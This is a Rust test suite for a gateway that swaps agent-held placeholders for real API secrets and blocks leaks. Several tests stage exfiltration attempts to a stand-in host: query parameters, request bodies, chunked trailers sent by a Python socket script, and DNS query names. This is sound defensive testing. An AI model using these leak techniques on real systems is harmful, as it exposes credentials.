//! Credentials end to end: an agent in a cgroup holds only placeholders;
//! the gateway puts the real secret into the bound header, query
//! parameter, path segment or Basic auth of requests to the bound host,
//! redacts it from whatever comes back, and blocks (and records) a
//! placeholder anywhere else. No file or log the test wrote holds the
//! secret.

use std::path::Path;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use gateway_tests::client::Run;
use gateway_tests::gateway::LogLine;
use gateway_tests::gateway::config::Rule;
use gateway_tests::https_clients::Reply;
use gateway_tests::https_scenario::{API_HOST, HttpsScenario, OTHER_HOST};
use gateway_tests::secrets::{SecretCli, assert_no_secret_in, assert_no_secret_in_text};
use gateway_tests::tempdir::TempDir;

const SECRET: &str = "sk-live-REAL-7f3a9c1e5b";
const BEARER: &[&str] = &[
    "--host",
    API_HOST,
    "--agent",
    "agent",
    "--header",
    "Authorization: Bearer {}",
];

struct Setup {
    s: HttpsScenario,
    cli: SecretCli,
    state: TempDir,
}

/// A vault with `secrets` (name, binding, value) set before the gateway
/// starts; the policy allows everything on the API and the other host.
fn start(tag: &str, secrets: &[(&str, &[&str], &str)], second_agent: bool) -> Setup {
    gateway_tests::preflight::require_root_and_gateway();
    let state = TempDir::new(&format!("{tag}-state"));
    let cli = SecretCli::new(&state.path().join("gateway"));
    for (name, binding, value) in secrets {
        cli.set(name, binding, value);
    }
    let rules = [Rule::allow("api-and-other", &[API_HOST, OTHER_HOST])];
    let mut builder = HttpsScenario::builder(tag)
        .rules(&rules)
        .state_dir(&cli.state_dir);
    if second_agent {
        builder = builder.second_agent("bee", &rules);
    }
    Setup {
        s: builder.start(),
        cli,
        state,
    }
}

/// What the agent saw of one curl request: the reply, and the response
/// headers (dumped to a file), and everything curl printed.
struct Seen {
    run: Run,
    headers: String,
}

impl Setup {
    fn curl_as(&self, cgroup: &Path, args: &[&str], url: &str) -> Seen {
        static N: AtomicU32 = AtomicU32::new(0);
        let file = self
            .s
            .dir
            .path()
            .join(format!("headers-{}", N.fetch_add(1, Ordering::Relaxed)));
        let run = self
            .s
            .agents
            .curl(url)
            .args(args)
            .arg("-D")
            .arg(&file)
            .arg(url)
            .in_cgroup(cgroup)
            .run();
        let headers = std::fs::read_to_string(&file).unwrap_or_default();
        Seen { run, headers }
    }

    fn curl(&self, args: &[&str], url: &str) -> Seen {
        self.curl_as(self.s.agent.path(), args, url)
    }

    fn reply(&self, seen: &Seen) -> Reply {
        self.s.curl_reply(&seen.run)
    }

    /// The gateway's record of a blocked placeholder sent to `host`.
    fn wait_for_exfiltration(&self, host: &str, place: &str) -> LogLine {
        self.s.gateway.wait_for_log(
            &format!("an exfiltration record for {host} ({place})"),
            |l| {
                l.field("event").as_deref() == Some("exfiltration_blocked")
                    && l.field("host").as_deref() == Some(host)
                    && l.field("place").is_some_and(|p| p.contains(place))
            },
            Duration::from_secs(5),
        )
    }

    /// No log line, vault file or test file holds `secret`.
    fn assert_no_secret_anywhere(&self, secret: &str) {
        assert_no_secret_in_text("the gateway's log", &self.s.gateway.dump(), secret);
        let files = assert_no_secret_in(&[self.state.path(), self.s.dir.path()], secret);
        assert!(
            files >= 3,
            "the scan read the vault, its key and the test files ({files})"
        );
    }
}

/// The agent's whole view holds no secret.
fn assert_agent_never_saw(seen: &Seen, secret: &str) {
    let view = format!("{}\n{}\n{}", seen.headers, seen.run.stdout, seen.run.stderr);
    assert_no_secret_in_text("the agent's view (headers, body, errors)", &view, secret);
}

fn header_of<'a>(
    seen: &'a gateway_tests::https_upstream::SeenRequest,
    name: &str,
) -> Option<&'a str> {
    seen.headers
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
}

#[test]
fn bearer_header_is_injected_and_the_echo_redacted() {
    let t = start("sec-bearer", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    assert!(ph.starts_with("gwph-") && ph.len() == 37, "{ph}");
    let auth = format!("Authorization: Bearer {ph}");
    let seen = t.curl(&["-H", &auth], &HttpsScenario::url(API_HOST, "/v1/me"));
    let reply = t.reply(&seen);
    let upstream =
        t.s.upstream
            .wait_for_request("/v1/me", Duration::from_secs(5));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some(format!("Bearer {SECRET}").as_str()),
        "the upstream gets the real secret: {upstream:#?}"
    );
    // The upstream echoed it in its JSON body and in a header: the agent
    // sees its placeholder there instead.
    let echo = reply.expect_echo();
    assert_eq!(echo.header("authorization"), Some(format!("Bearer {ph}")));
    assert!(
        seen.headers
            .to_ascii_lowercase()
            .contains(&format!("x-echo-authorization: bearer {ph}")),
        "{}",
        seen.headers
    );
    assert_agent_never_saw(&seen, SECRET);
    // The same over HTTP/2 from the agent.
    let seen = t.curl(
        &["--http2", "-H", &auth],
        &HttpsScenario::url(API_HOST, "/v1/h2"),
    );
    let reply = t.reply(&seen);
    assert_eq!(reply.http_version.as_deref(), Some("2"), "{reply:#?}");
    assert_eq!(
        reply.expect_echo().header("authorization"),
        Some(format!("Bearer {ph}"))
    );
    let upstream =
        t.s.upstream
            .wait_for_request("/v1/h2", Duration::from_secs(5));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    assert_agent_never_saw(&seen, SECRET);
    t.assert_no_secret_anywhere(SECRET);
}

#[test]
fn query_path_and_basic_auth_positions_are_injected() {
    const QUERY_SECRET: &str = "query-secret-0a1b2c3d";
    const BOT_SECRET: &str = "123456:bot-secret-ABCdef";
    const PASSWORD: &str = "basic-password-9z8y7x";
    let t = start(
        "sec-positions",
        &[
            (
                "MAPS_KEY",
                &["--host", API_HOST, "--agent", "agent", "--query", "key"],
                QUERY_SECRET,
            ),
            (
                "BOT_TOKEN",
                &["--host", API_HOST, "--agent", "agent", "--path", "/bot{}/"],
                BOT_SECRET,
            ),
            (
                "REGISTRY_PASSWORD",
                &[
                    "--host",
                    API_HOST,
                    "--agent",
                    "agent",
                    "--basic-auth",
                    "deploy",
                ],
                PASSWORD,
            ),
        ],
        false,
    );
    let phs = t.cli.placeholders("agent");
    assert_eq!(phs.len(), 3, "{phs:?}");

    let url = HttpsScenario::url(API_HOST, &format!("/maps?q=x&key={}", phs["MAPS_KEY"]));
    let seen = t.curl(&[], &url);
    t.reply(&seen).expect_echo();
    let upstream =
        t.s.upstream
            .wait_for_request("/maps", Duration::from_secs(5));
    assert_eq!(
        upstream.query.as_deref(),
        Some("q=x&key=query-secret-0a1b2c3d")
    );
    assert_agent_never_saw(&seen, QUERY_SECRET);

    let url = HttpsScenario::url(API_HOST, &format!("/bot{}/getMe", phs["BOT_TOKEN"]));
    let seen = t.curl(&[], &url);
    let echo = t.reply(&seen).expect_echo();
    // The secret's `:` is percent-encoded in the path.
    let upstream = t.s.upstream.wait_for_request(
        "/bot123456%3Abot-secret-ABCdef/getMe",
        Duration::from_secs(5),
    );
    assert_eq!(upstream.method, "GET");
    assert_eq!(echo.text("path"), format!("/bot{}/getMe", phs["BOT_TOKEN"]));
    assert_agent_never_saw(&seen, BOT_SECRET);

    let user = format!("deploy:{}", phs["REGISTRY_PASSWORD"]);
    let seen = t.curl(&["-u", &user], &HttpsScenario::url(API_HOST, "/v2/"));
    t.reply(&seen).expect_echo();
    let upstream =
        t.s.upstream
            .wait_for_request("/v2/", Duration::from_secs(5));
    let expected = base64_of(&format!("deploy:{PASSWORD}"));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some(format!("Basic {expected}").as_str())
    );
    assert_agent_never_saw(&seen, PASSWORD);

    for secret in [QUERY_SECRET, BOT_SECRET, PASSWORD] {
        t.assert_no_secret_anywhere(secret);
    }
}

fn base64_of(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

#[test]
fn a_placeholder_to_an_unbound_host_is_blocked_and_recorded() {
    let t = start("sec-unbound", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    // In the bound header, but to another host (the policy allows it).
    let auth = format!("Authorization: Bearer {ph}");
    let seen = t.curl(&["-H", &auth], &HttpsScenario::url(OTHER_HOST, "/collect"));
    let refusal = t.reply(&seen).expect_refusal(403, "exfiltration_blocked");
    assert!(refusal.message.contains("API_TOKEN"), "{refusal:?}");
    let line = t.wait_for_exfiltration(OTHER_HOST, "header authorization");
    assert_eq!(
        line.field("secret").as_deref(),
        Some("API_TOKEN"),
        "{line:?}"
    );
    assert_eq!(line.field("agent").as_deref(), Some("agent"), "{line:?}");
    assert_eq!(
        line.field("request_id").as_deref(),
        Some(refusal.request_id.as_str())
    );

    // As a query parameter to a "paste site", and in a body.
    let seen = t.curl(
        &[],
        &HttpsScenario::url(OTHER_HOST, &format!("/paste?text={ph}")),
    );
    t.reply(&seen).expect_refusal(403, "exfiltration_blocked");
    t.wait_for_exfiltration(OTHER_HOST, "query parameter text");
    let body = format!("{{\"note\": \"my key is {ph}\"}}");
    let seen = t.curl(
        &["--data-binary", &body],
        &HttpsScenario::url(OTHER_HOST, "/upload"),
    );
    t.reply(&seen).expect_refusal(403, "exfiltration_blocked");
    t.wait_for_exfiltration(OTHER_HOST, "body");
    // Even to the bound host, a placeholder outside its position is blocked.
    let seen = t.curl(
        &["-H", &format!("X-Debug: {ph}")],
        &HttpsScenario::url(API_HOST, "/debug"),
    );
    t.reply(&seen).expect_refusal(403, "exfiltration_blocked");
    t.wait_for_exfiltration(API_HOST, "header x-debug");

    // A request the policy denies anyway is recorded too.
    let denied_host = gateway_tests::https_scenario::SVC_HOSTS[0];
    let seen = t.curl(&["-H", &auth], &HttpsScenario::url(denied_host, "/denied"));
    t.reply(&seen).expect_refusal(403, "denied");
    t.wait_for_exfiltration(denied_host, "header authorization");

    for path in ["/collect", "/paste", "/upload", "/debug", "/denied"] {
        t.s.upstream
            .assert_no_request_to(path, "a blocked request is never forwarded");
    }
    t.assert_no_secret_anywhere(SECRET);
}

#[test]
fn a_placeholder_late_in_a_streamed_body_stops_the_request() {
    let t = start("sec-stream", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    // Past the first 64 KiB the gateway reads before deciding.
    let mut body = "a".repeat(200 * 1024);
    body.push_str(&ph);
    body.push_str(&"b".repeat(100 * 1024));
    let file = t.s.dir.write("big-body", &body);
    let data = format!("@{}", file.display());
    let seen = t.curl(
        &["--data-binary", &data],
        &HttpsScenario::url(OTHER_HOST, "/big"),
    );
    let line = t.wait_for_exfiltration(OTHER_HOST, "body");
    assert_eq!(
        line.field("secret").as_deref(),
        Some("API_TOKEN"),
        "{line:?}"
    );
    if seen.run.success() {
        let reply = gateway_tests::https_clients::curl_reply(&seen.run);
        assert_ne!(
            reply.status, 200,
            "the upstream must not answer a stopped body: {reply:#?}"
        );
    }
}

#[test]
fn a_secret_echoed_over_a_websocket_is_redacted() {
    let t = start("sec-ws", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    let run =
        t.s.agents
            .websocket(API_HOST, 443, "/ws/whoami", "hello")
            .arg(format!("Bearer {ph}"))
            .in_cgroup(t.s.agent.path())
            .run();
    let ws = gateway_tests::https_clients::WsOutcome::parse(&run);
    assert_eq!(ws.status(), Some(101), "{run:#?}\n{}", t.s.gateway.dump());
    let upstream =
        t.s.upstream
            .wait_for_request("/ws/whoami", Duration::from_secs(5));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some(format!("Bearer {SECRET}").as_str()),
        "the upstream gets the real secret: {upstream:#?}"
    );
    assert_eq!(
        header_of(&upstream, "sec-websocket-extensions"),
        None,
        "no compression is agreed on a stream the gateway must read: {upstream:#?}"
    );
    // The upstream repeated the secret in its frame; the agent sees its
    // placeholder.
    assert_eq!(ws.0["echo"], format!("Bearer {ph} hello"), "{run:#?}");
    assert!(!run.stdout.contains(SECRET), "{run:#?}");
}

#[test]
fn a_placeholder_in_request_trailers_stops_the_request() {
    let t = start("sec-trailer", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    // curl sends no request trailers: a chunked HTTP/1.1 request by hand,
    // over TLS trusting the gateway's CA, whose trailer carries the
    // placeholder. What comes back is printed (or the error, if the
    // gateway cut the connection).
    let send = r"
import socket, ssl, sys
host, addr, port, cafile, placeholder = sys.argv[1:6]
context = ssl.create_default_context(cafile=cafile)
with socket.create_connection((addr, int(port)), timeout=10) as raw:
    with context.wrap_socket(raw, server_hostname=host) as tls:
        tls.sendall((
            f'POST /signed HTTP/1.1\r\nHost: {host}\r\n'
            'Transfer-Encoding: chunked\r\nTrailer: X-Signature\r\n\r\n'
            '5\r\nhello\r\n0\r\n'
            f'X-Signature: {placeholder}\r\n\r\n').encode())
        try:
            print(tls.recv(4096).decode(errors='replace').split('\r\n')[0])
        except OSError as error:
            print('no answer:', error)
";
    let upstream = t.s.upstream_addr();
    let ca =
        t.s.agents
            .ca_file
            .as_ref()
            .expect("the agents trust the gateway's CA");
    let run = gateway_tests::client::TimedCommand::new("python3")
        .args(["-c", send, OTHER_HOST, &upstream.ip().to_string()])
        .arg(upstream.port().to_string())
        .arg(ca)
        .arg(&ph)
        .in_cgroup(t.s.agent.path())
        .run()
        .expect_success("the chunked request");
    let line = t.wait_for_exfiltration(OTHER_HOST, "trailer x-signature");
    assert_eq!(
        line.field("secret").as_deref(),
        Some("API_TOKEN"),
        "{line:?}"
    );
    assert!(
        !run.stdout.contains(" 200"),
        "the upstream must not answer a stopped body: {run:#?}"
    );
}

#[test]
fn a_placeholder_in_a_dns_name_is_refused_and_recorded() {
    let t = start("sec-dns", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    let name = format!("{ph}.{API_HOST}");
    let server = t.s.topo.upstream_v4().to_string();
    let query = r"
import socket, struct, sys
name, server = sys.argv[1], sys.argv[2]
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\x00'
q += struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, (server, 53))
r, _ = s.recvfrom(4096)
print('rcode', r[3] & 0xF, 'answers', struct.unpack('>H', r[6:8])[0])
";
    let run = gateway_tests::client::TimedCommand::new("python3")
        .args(["-c", query, &name, &server])
        .in_cgroup(t.s.agent.path())
        .run()
        .expect_success("the DNS query");
    assert!(
        run.stdout.contains("rcode 5 answers 0"),
        "REFUSED expected: {run:#?}"
    );
    let line = t.wait_for_exfiltration(&name, "DNS name");
    assert_eq!(
        line.field("secret").as_deref(),
        Some("API_TOKEN"),
        "the record names the secret: {line:?}"
    );
}

#[test]
fn a_request_without_placeholders_gets_nothing_injected() {
    let t = start("sec-none", &[("API_TOKEN", BEARER, SECRET)], false);
    let seen = t.curl(
        &["-H", "Authorization: Bearer agents-own-token"],
        &HttpsScenario::url(API_HOST, "/own"),
    );
    t.reply(&seen).expect_echo();
    let upstream =
        t.s.upstream
            .wait_for_request("/own", Duration::from_secs(5));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some("Bearer agents-own-token")
    );
    let seen = t.curl(&[], &HttpsScenario::url(API_HOST, "/bare"));
    t.reply(&seen).expect_echo();
    let upstream =
        t.s.upstream
            .wait_for_request("/bare", Duration::from_secs(5));
    assert_eq!(header_of(&upstream, "authorization"), None, "{upstream:#?}");
    t.assert_no_secret_anywhere(SECRET);
}

#[test]
fn a_secret_bound_to_agent_a_is_not_injected_for_agent_b() {
    let t = start("sec-agents", &[("API_TOKEN", BEARER, SECRET)], true);
    assert!(
        t.cli.placeholders("bee").is_empty(),
        "bee may not use API_TOKEN"
    );
    let ph_a = t.cli.placeholder("agent", "API_TOKEN");
    let bee =
        t.s.second_agent
            .as_ref()
            .expect("second agent")
            .path()
            .to_owned();
    let auth = format!("Authorization: Bearer {ph_a}");
    let seen = t.curl_as(
        &bee,
        &["-H", &auth],
        &HttpsScenario::url(API_HOST, "/as-bee"),
    );
    t.reply(&seen).expect_refusal(403, "exfiltration_blocked");
    let line = t.wait_for_exfiltration(API_HOST, "header authorization");
    assert_eq!(line.field("agent").as_deref(), Some("bee"), "{line:?}");
    assert!(
        line.field("reason")
            .is_some_and(|r| r.contains("agent agent")),
        "{line:?}"
    );
    t.s.upstream
        .assert_no_request_to("/as-bee", "agent B's request with A's placeholder");
    // The same request from agent A works.
    let seen = t.curl(&["-H", &auth], &HttpsScenario::url(API_HOST, "/as-a"));
    t.reply(&seen).expect_echo();
    let upstream =
        t.s.upstream
            .wait_for_request("/as-a", Duration::from_secs(5));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    t.assert_no_secret_anywhere(SECRET);
}

#[test]
fn a_rotated_secret_applies_without_a_restart() {
    const NEW: &str = "sk-live-ROTATED-e4d2c0";
    let t = start("sec-rotate", &[("API_TOKEN", BEARER, SECRET)], false);
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    let auth = format!("Authorization: Bearer {ph}");
    t.reply(&t.curl(&["-H", &auth], &HttpsScenario::url(API_HOST, "/before")))
        .expect_echo();
    let before =
        t.s.upstream
            .wait_for_request("/before", Duration::from_secs(5));
    assert_eq!(
        header_of(&before, "authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    let pid = t.s.gateway.pid();

    t.cli.set("API_TOKEN", BEARER, NEW);
    assert_eq!(
        t.cli.placeholder("agent", "API_TOKEN"),
        ph,
        "the placeholder survives rotation"
    );
    t.s.gateway.wait_for_log(
        "vault reloaded",
        |l| l.message() == "vault reloaded",
        Duration::from_secs(10),
    );
    let seen = t.curl(&["-H", &auth], &HttpsScenario::url(API_HOST, "/after"));
    t.reply(&seen).expect_echo();
    let after =
        t.s.upstream
            .wait_for_request("/after", Duration::from_secs(5));
    assert_eq!(
        header_of(&after, "authorization"),
        Some(format!("Bearer {NEW}").as_str())
    );
    assert_eq!(t.s.gateway.pid(), pid, "same gateway process");
    assert_agent_never_saw(&seen, NEW);
    t.assert_no_secret_anywhere(SECRET);
    t.assert_no_secret_anywhere(NEW);
}

#[test]
fn a_tampered_record_is_not_used_and_the_others_still_work() {
    let t = start(
        "sec-tamper",
        &[
            ("API_TOKEN", BEARER, SECRET),
            (
                "OTHER_TOKEN",
                &[
                    "--host",
                    API_HOST,
                    "--agent",
                    "agent",
                    "--header",
                    "X-Api-Key: {}",
                ],
                "other-secret-55aa66bb",
            ),
        ],
        false,
    );
    let ph_other = t.cli.placeholder("agent", "OTHER_TOKEN");
    // Point OTHER_TOKEN at another host by editing its binding on disk.
    let path = t.cli.vault_file();
    let mut vault: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    vault["records"][1]["binding"]["hosts"] = serde_json::json!([OTHER_HOST]);
    std::fs::write(&path, serde_json::to_vec_pretty(&vault).unwrap()).unwrap();
    t.s.gateway.wait_for_log(
        "the tampered record reported",
        |l| {
            l.message() == "vault record not used"
                && l.field("secret").as_deref() == Some("OTHER_TOKEN")
        },
        Duration::from_secs(10),
    );
    // Never used: its placeholder is now unknown, even to the new host.
    let seen = t.curl(
        &["-H", &format!("X-Api-Key: {ph_other}")],
        &HttpsScenario::url(OTHER_HOST, "/moved"),
    );
    t.reply(&seen).expect_refusal(403, "exfiltration_blocked");
    t.s.upstream
        .assert_no_request_to("/moved", "a tampered record is never used");
    // The intact record still works.
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    let seen = t.curl(
        &["-H", &format!("Authorization: Bearer {ph}")],
        &HttpsScenario::url(API_HOST, "/intact"),
    );
    t.reply(&seen).expect_echo();
    let upstream =
        t.s.upstream
            .wait_for_request("/intact", Duration::from_secs(5));
    assert_eq!(
        header_of(&upstream, "authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    t.assert_no_secret_anywhere(SECRET);
}

#[test]
fn a_container_gets_its_placeholders_from_an_env_file() {
    let t = start("sec-container", &[("API_TOKEN", BEARER, SECRET)], false);
    let env = t
        .cli
        .command(&["env", "--agent", "agent"])
        .run()
        .expect_success("secret env");
    let env_file = t.s.dir.write("agent.env", &env.stdout);
    let rootfs_dir = TempDir::new("sec-container-rootfs");
    let rootfs = gateway_tests::container::busybox_rootfs(rootfs_dir.path());
    // busybox's TLS cannot talk to the gateway's (no signature_algorithms
    // extension), so the container speaks plain HTTP: the gateway sees the
    // placeholder, and refuses to send a secret in clear.
    let url = format!("http://{API_HOST}:443/v1/container");
    let script = format!(
        "echo token=$API_TOKEN; wget -q -O - --header \"Authorization: Bearer $API_TOKEN\" {url}"
    );
    let run = gateway_tests::client::TimedCommand::new("podman")
        .args(["--runtime", "runc", "run", "--rm"])
        .arg(format!("--cgroup-parent={}", t.s.agent.relative()))
        .args(gateway_tests::container::ULIMITS)
        .arg("--network=host")
        .arg(format!("--add-host={API_HOST}:{}", t.s.topo.upstream_v4()))
        .arg("--env-file")
        .arg(&env_file)
        .arg("--rootfs")
        .arg(&rootfs)
        .args(["/bin/sh", "-c", &script])
        .timeout(Duration::from_mins(1))
        .run();
    assert!(
        !run.stderr.contains("OCI runtime") && !run.stderr.contains("Error: "),
        "podman could not run a container here: {run:#?}"
    );
    let ph = t.cli.placeholder("agent", "API_TOKEN");
    assert!(
        run.stdout.contains(&format!("token={ph}")),
        "the container's environment holds the placeholder: {run:#?}"
    );
    assert!(run.stderr.contains("403"), "{run:#?}");
    let line = t.wait_for_exfiltration(API_HOST, "header authorization");
    assert!(
        line.field("reason").is_some_and(|r| r.contains("HTTPS")),
        "{line:?}"
    );
    t.s.upstream
        .assert_no_request_to("/v1/container", "no secret in clear");
    assert_no_secret_in_text(
        "the container's output",
        &format!("{}{}", run.stdout, run.stderr),
        SECRET,
    );
    t.assert_no_secret_anywhere(SECRET);
}
